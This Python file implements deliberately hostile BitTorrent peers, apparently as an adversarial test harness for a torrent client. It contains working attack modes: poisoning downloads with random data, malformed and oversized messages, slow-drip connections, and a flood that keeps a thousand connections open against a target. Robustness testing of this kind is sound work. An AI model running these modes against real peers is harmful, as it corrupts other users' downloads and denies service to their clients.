"""Peers that mean no good, speaking the wire protocol badly on purpose.

As a program: MODE TORRENT PORT [HOST:PORT]... It listens on the port and keeps dialling the addresses, and does to whoever is at the other
end what the mode says, again and again, until it is killed. Prints a line when it listens, and one when it has met a victim.
"""

import os
import resource
import selectors
import socket
import struct
import sys
import threading
import time

import torrentfile

CHOKE, UNCHOKE, INTERESTED, HAVE, BITFIELD, REQUEST, PIECE = 0, 1, 2, 4, 5, 6, 7
BLOCK = 16 * 1024
PAUSE = 0.2  # seconds before dialling again
CROWD = 1000


class Connection:
    """One connection to a victim."""

    def __init__(self, stream, torrent):
        self.stream = stream
        self.torrent = torrent
        self.received = b""

    def handshake(self, info_hash=None):
        """Says hello, and reads the answer."""
        self.stream.sendall(hello(info_hash or self.torrent.info_hash))
        self.read(68)

    def read(self, length):
        while len(self.received) < length:
            data = self.stream.recv(65536)
            if not data:
                raise ConnectionError("the victim hung up")
            self.received += data
        data, self.received = self.received[:length], self.received[length:]
        return data

    def message(self):
        """The next message: id and payload. Keepalives are skipped."""
        while (length := int.from_bytes(self.read(4))) == 0:
            pass
        body = self.read(length)
        return body[0], body[1:]

    def send(self, kind, payload=b""):
        self.stream.sendall(struct.pack(">IB", 1 + len(payload), kind) + payload)

    def claim_all(self):
        """A correct bitfield with every piece."""
        count = self.torrent.piece_count
        self.send(BITFIELD, ((1 << count) - 1 << -count % 8).to_bytes((count + 7) // 8))

    def drain(self):
        """Reads until the other end hangs up."""
        while self.stream.recv(65536):
            pass


def hello(info_hash):
    return b"\x13BitTorrent protocol" + bytes(8) + info_hash + b"-XX0000-" + os.urandom(12)


def corrupt(peer):
    """Claims to be a seed and answers every request with a block that is not the one."""
    peer.handshake()
    peer.claim_all()
    peer.send(UNCHOKE)
    while True:
        kind, payload = peer.message()
        if kind == REQUEST:
            _, _, length = struct.unpack(">III", payload)
            peer.send(PIECE, payload[:8] + os.urandom(length))


def random_bytes(peer):
    """Says nothing that makes sense: first in place of the handshake, then, every other time, after it."""
    if os.urandom(1)[0] & 1:
        peer.handshake()
    peer.stream.sendall(os.urandom(256 * 1024))
    peer.drain()


def wrong_info_hash(peer):
    """Asks for a torrent that the victim does not have."""
    peer.handshake(os.urandom(20))
    peer.claim_all()
    peer.drain()


def oversize_message(peer):
    """Announces a block of two gigabytes and begins to send it."""
    peer.handshake()
    peer.stream.sendall(struct.pack(">IBII", 0x7FFF_FFFF, PIECE, 0, 0))
    while True:
        peer.stream.sendall(bytes(65536))


def bitfield_too_long(peer):
    """One byte more than there are pieces for."""
    peer.handshake()
    peer.send(BITFIELD, b"\xff" * ((peer.torrent.piece_count + 7) // 8 + 1))
    peer.drain()


def bitfield_too_short(peer):
    peer.handshake()
    peer.send(BITFIELD, b"\xff")
    peer.drain()


def bitfield_spare_bits(peer):
    """Claims pieces after the last."""
    peer.handshake()
    peer.send(BITFIELD, b"\xff" * ((peer.torrent.piece_count + 7) // 8))
    peer.drain()


def requests_beyond(peer):
    """Asks for what there is not: beyond the piece, beyond the torrent, too much at once, nothing at all."""
    peer.handshake()
    peer.send(INTERESTED)
    length, count = peer.torrent.piece_length, peer.torrent.piece_count
    time.sleep(0.5)
    asked = [(0, length, BLOCK), (0, length - 1, BLOCK), (count, 0, BLOCK), (0xFFFF_FFFF, 0xFFFF_FFFF, 0xFFFF_FFFF), (0, 0, 1 << 24), (0, 0, 0)]
    peer.send(REQUEST, struct.pack(">III", *asked[os.urandom(1)[0] % len(asked)]))
    peer.drain()


def unasked_data(peer):
    """Sends blocks that nobody asked for, wrong ones at that."""
    peer.handshake()
    peer.claim_all()
    while True:
        for piece in range(peer.torrent.piece_count):
            peer.send(PIECE, struct.pack(">II", piece, 0) + os.urandom(min(BLOCK, peer.torrent.piece_size(piece))))


def flapping_choke(peer):
    """Is a seed that chokes and unchokes without end, and never serves."""
    peer.handshake()
    peer.claim_all()
    threading.Thread(target=swallow, args=(peer.drain,), daemon=True).start()
    while True:
        peer.stream.sendall((struct.pack(">IB", 1, UNCHOKE) + struct.pack(">IB", 1, CHOKE)) * 50)
        time.sleep(0.02)


def drip(peer):
    """One byte a second."""
    for byte in b"\x13BitTorrent protocol" + bytes(8) + peer.torrent.info_hash + bytes(20):
        peer.stream.sendall(bytes([byte]))
        time.sleep(1)


def silence(peer):
    """Connects and says nothing."""
    peer.drain()


def crowd(peer):
    """One of very many leechers from one address that never go away. How they come to be many: besiege()."""
    peer.handshake()
    peer.send(INTERESTED)
    peer.drain()


MODES = {
    mode.__name__: mode
    for mode in (
        corrupt,
        random_bytes,
        wrong_info_hash,
        oversize_message,
        bitfield_too_long,
        bitfield_too_short,
        bitfield_spare_bits,
        requests_beyond,
        unasked_data,
        flapping_choke,
        drip,
        silence,
        crowd,
    )
}


def swallow(function, *args):
    """Calls it; that the victim hangs up, or does not listen, is all right."""
    try:
        function(*args)
    except (OSError, MemoryError):
        pass


def attack(mode, torrent, stream):
    with stream:
        print(f"met {stream.getpeername()[0]}", flush=True)
        swallow(mode, Connection(stream, torrent))


def dial(mode, torrent, address):
    """Keeps connecting to the victim."""
    host, port = address.rsplit(":", 1)
    while True:
        try:
            attack(mode, torrent, socket.create_connection((host.strip("[]"), int(port)), timeout=60))
        except OSError:
            pass
        time.sleep(PAUSE)


def besiege(torrent, address):
    """Keeps a thousand connections to the victim open, each of which has shaken hands and is interested."""
    host, port = address.rsplit(":", 1)
    family = socket.AF_INET6 if "[" in host else socket.AF_INET
    selector = selectors.DefaultSelector()

    def drop(stream):
        selector.unregister(stream)
        stream.close()

    while True:
        for _ in range(CROWD - len(selector.get_map())):
            stream = socket.socket(family)
            stream.setblocking(False)
            stream.connect_ex((host.strip("[]"), int(port)))
            selector.register(stream, selectors.EVENT_WRITE)
        for key, _ in selector.select(PAUSE):
            stream = key.fileobj
            try:
                if key.events == selectors.EVENT_WRITE:
                    stream.send(hello(torrent.info_hash) + struct.pack(">IB", 1, INTERESTED))
                    selector.modify(stream, selectors.EVENT_READ)
                    print(f"met {stream.getpeername()[0]}", flush=True)
                elif not stream.recv(65536):
                    drop(stream)
            except OSError:
                drop(stream)
        time.sleep(PAUSE)


def main():
    mode, torrent, port, victims = MODES[sys.argv[1]], torrentfile.load(sys.argv[2]), int(sys.argv[3]), sys.argv[4:]
    listener = socket.create_server(("", port))
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    for victim in victims:
        assault = (besiege, (torrent, victim)) if mode is crowd else (dial, (mode, torrent, victim))
        threading.Thread(target=assault[0], args=assault[1], daemon=True).start()
    print(f"{mode.__name__} listens", flush=True)
    while True:
        stream, _ = listener.accept()
        threading.Thread(target=attack, args=(mode, torrent, stream), daemon=True).start()


if __name__ == "__main__":
    main()
